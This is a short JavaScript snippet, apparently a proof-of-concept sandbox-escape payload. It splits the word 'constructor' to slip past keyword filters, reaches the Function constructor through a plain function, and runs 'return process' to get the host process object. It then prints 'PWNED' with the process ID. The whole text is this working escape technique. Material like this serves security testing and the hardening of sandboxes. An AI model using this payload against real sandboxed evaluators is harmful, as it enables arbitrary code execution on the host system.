const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
(async () => { const o = await Promise.resolve(t); console.log('PWNED', o.go(fn)('return process')().pid);
})();
